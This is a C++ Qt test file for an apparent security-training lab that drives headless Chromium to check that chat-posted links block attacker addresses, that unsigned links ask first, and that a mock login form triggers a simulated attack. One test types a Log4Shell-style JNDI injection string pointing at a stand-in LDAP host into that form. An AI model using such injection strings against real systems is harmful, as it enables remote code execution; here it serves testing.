#include "support_program.h"

#include <QJsonDocument>
#include <QSemaphore>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QThread>

#include <atomic>
#include <memory>

using namespace sandtable::test;
using namespace Qt::StringLiterals;

namespace
{

/// Headless Chromium driven through chromedriver (W3C WebDriver); nothing but loopback can be reached from
/// it.
class Browser
{
public:
    Browser()
    {
        m_driver.setProcessChannelMode(QProcess::MergedChannels);
        QTcpServer finder;
        if (!finder.listen(QHostAddress::LocalHost))
            return;
        m_port = finder.serverPort();
        finder.close();
        m_driver.start(QStandardPaths::findExecutable(u"chromedriver"_s), {u"--port=%1"_s.arg(m_port)});
        if (!eventually(
                [&] {
                    return ask("GET", url(u"/status"_s))
                        .object()
                        .value(u"value"_s)
                        .toObject()
                        .value(u"ready"_s)
                        .toBool();
                },
                15000))
            return;
        const QJsonArray arguments{
            u"--headless=new"_s,
            u"--no-sandbox"_s,
            u"--disable-gpu"_s,
            u"--disable-dev-shm-usage"_s,
            u"--user-data-dir="_s + m_profile.path(),
            u"--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1 , EXCLUDE localhost"_s};
        const QJsonObject options{{u"binary"_s, QStandardPaths::findExecutable(u"chromium"_s)},
                                  {u"args"_s, arguments}};
        const QJsonObject capabilities{{u"alwaysMatch"_s, QJsonObject{{u"browserName"_s, u"chrome"_s},
                                                                      {u"goog:chromeOptions"_s, options}}}};
        const QJsonObject answer = post(u"/session"_s, {{u"capabilities"_s, capabilities}});
        m_session = answer.value(u"sessionId"_s).toString();
        m_problem = QString::fromUtf8(QJsonDocument(answer).toJson());
    }
    ~Browser()
    {
        if (!m_session.isEmpty())
            static_cast<void>(ask("DELETE", url(u"/session/"_s + m_session)));
        m_driver.terminate();
        if (!m_driver.waitForFinished(5000))
            m_driver.kill();
        m_driver.waitForFinished(2000);
    }

    [[nodiscard]] bool isReady() const { return !m_session.isEmpty(); }
    [[nodiscard]] QString problem() { return m_problem + QString::fromUtf8(m_driver.readAll()); }
    void open(const QUrl &page)
    {
        static_cast<void>(command(u"/url"_s, {{u"url"_s, page.toString(QUrl::FullyEncoded)}}));
    }
    /// Clicks the first element of a CSS selector, as a person's mouse does.
    [[nodiscard]] bool click(const QString &selector)
    {
        const QString element = find(selector);
        return !element.isEmpty() &&
               ask("POST", url(u"/session/%1/element/%2/click"_s.arg(m_session, element)), json(), "{}")
                       .status == 200;
    }
    [[nodiscard]] bool type(const QString &selector, const QString &text)
    {
        const QString element = find(selector);
        return !element.isEmpty() &&
               ask("POST", url(u"/session/%1/element/%2/value"_s.arg(m_session, element)), json(),
                   QJsonDocument(QJsonObject{{u"text"_s, text}}).toJson())
                       .status == 200;
    }
    [[nodiscard]] QString text(const QString &selector)
    {
        const QString element = find(selector);
        return element.isEmpty() ? QString()
                                 : ask("GET", url(u"/session/%1/element/%2/text"_s.arg(m_session, element)))
                                       .object()
                                       .value(u"value"_s)
                                       .toString();
    }
    [[nodiscard]] bool has(const QString &selector) { return !find(selector).isEmpty(); }

private:
    static HeaderList json() { return {{"Content-Type", "application/json"}}; }
    [[nodiscard]] QUrl url(const QString &path) const
    {
        return QUrl(u"http://127.0.0.1:%1%2"_s.arg(m_port).arg(path));
    }
    [[nodiscard]] QJsonObject post(const QString &path, const QJsonObject &body)
    {
        return ask("POST", url(path), json(), QJsonDocument(body).toJson(QJsonDocument::Compact))
            .object()
            .value(u"value"_s)
            .toObject();
    }
    [[nodiscard]] QJsonObject command(const QString &path, const QJsonObject &body)
    {
        return post(u"/session/"_s + m_session + path, body);
    }
    [[nodiscard]] QString find(const QString &selector)
    {
        const QJsonObject found =
            command(u"/element"_s, {{u"using"_s, u"css selector"_s}, {u"value"_s, selector}});
        return found.value(u"element-6066-11e4-a52e-4f735466cecf"_s).toString();
    }

    QTemporaryDir m_profile;
    QProcess m_driver;
    quint16 m_port = 0;
    QString m_session;
    QString m_problem;
};

/// A page of another origin with one link: the web client of a chat, say. Answers from a thread of its own,
/// because this one waits for the driver.
class ChatPage
{
public:
    explicit ChatPage(const QUrl &link)
    {
        const QByteArray html = "<!doctype html><title>chat</title><a id=\"link\" href=\"" +
                                link.toString(QUrl::FullyEncoded).toHtmlEscaped().toUtf8() + "\">block</a>";
        QSemaphore listening;
        m_thread.reset(QThread::create([this, html, &listening] {
            QTcpServer server;
            server.listen(QHostAddress::LocalHost);
            m_port = server.serverPort();
            listening.release();
            while (!m_stop) {
                if (!server.waitForNewConnection(50))
                    continue;
                const std::unique_ptr<QTcpSocket> socket(server.nextPendingConnection());
                socket->waitForReadyRead(1000);
                socket->readAll();
                socket->write(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: " +
                    QByteArray::number(html.size()) + "\r\n\r\n" + html);
                socket->disconnectFromHost();
                if (socket->state() != QAbstractSocket::UnconnectedState)
                    socket->waitForDisconnected(1000);
            }
        }));
        m_thread->start();
        listening.acquire();
    }
    ~ChatPage()
    {
        m_stop = true;
        m_thread->wait();
    }
    [[nodiscard]] QUrl url() const { return QUrl(u"http://127.0.0.1:%1/"_s.arg(m_port)); }

private:
    std::unique_ptr<QThread> m_thread;
    std::atomic<bool> m_stop = false;
    quint16 m_port = 0;
};

} // namespace

class BrowserTest : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void aClickOnTheAlertsLinkBlocks();
    void anUnsignedLinkAsks();
    void theLoginFormLaunchesTheAttack();

private:
    [[nodiscard]] QJsonObject state()
    {
        return ask("GET", m_program->callback(u"/api/v1/state"_s), bearer(m_program->value("api_token")))
            .object();
    }
    std::unique_ptr<ServedProgram> m_program;
    std::unique_ptr<Browser> m_browser;
};

void BrowserTest::initTestCase()
{
    QVERIFY2(!QStandardPaths::findExecutable(u"chromedriver"_s).isEmpty(),
             "install chromium-driver (./lab test does)");
    m_program = std::make_unique<ServedProgram>();
    QVERIFY2(m_program->isReady(), m_program->errors().constData());
    m_browser = std::make_unique<Browser>();
    QVERIFY2(m_browser->isReady(), qPrintable(m_browser->problem()));
}

void BrowserTest::aClickOnTheAlertsLinkBlocks()
{
    QCOMPARE(ask("POST", m_program->callback(u"/api/v1/attack"_s), bearerJson(m_program->value("api_token")),
                 R"({"pace":"instant"})")
                 .status,
             202);
    QList<QUrl> links;
    QVERIFY(eventually([&] {
        for (const QJsonValue &message : m_program->roomMessages())
            links += blockLinks(message.toObject().value(u"markdown"_s).toString());
        return !links.isEmpty();
    }));
    const QString address = state().value(u"attackers"_s).toArray().first().toString();
    ChatPage chat(links.constFirst());
    m_browser->open(chat.url());
    QVERIFY(m_browser->click(u"#link"_s));
    QVERIFY(eventually([&] { return m_browser->text(u"h1"_s) == address; }));
    QVERIFY(eventually([&] { return m_browser->text(u"#progress"_s).contains(u"Blocked"_s); }));
    QVERIFY(m_program->feed().contains(address.toLatin1()));
}

void BrowserTest::anUnsignedLinkAsks()
{
    const QByteArray address = "192.0.2.66";
    ChatPage chat(m_program->callback(u"/block?ip="_s + QString::fromLatin1(address)));
    m_browser->open(chat.url());
    QVERIFY(m_browser->click(u"#link"_s));
    QVERIFY(eventually([&] { return m_browser->has(u"form button"_s); }));
    QVERIFY(!m_program->feed().contains(address));
    QVERIFY(m_browser->click(u"form button"_s));
    QVERIFY(eventually([&] { return m_browser->text(u"#progress"_s).contains(u"Blocked"_s); }));
    QVERIFY(m_program->feed().contains(address));
}

void BrowserTest::theLoginFormLaunchesTheAttack()
{
    static_cast<void>(
        ask("POST", m_program->callback(u"/api/v1/reset"_s), bearer(m_program->value("api_token"))));
    m_browser->open(m_program->callback(u"/hacker"_s));
    QVERIFY(m_browser->type(u"#username"_s, u"${jndi:ldap://typed.example/x}"_s));
    QVERIFY(m_browser->click(u"button"_s));
    QVERIFY(eventually([&] { return state().value(u"stage"_s).toString() != u"idle"; }));
    QVERIFY(m_browser->click(u".button"_s));
    QVERIFY(eventually(
        [&] { return m_browser->text(u"#progress"_s).contains(u"attack"_s, Qt::CaseInsensitive); }));
}

QTEST_GUILESS_MAIN(BrowserTest)
#include "tst_browser.moc"
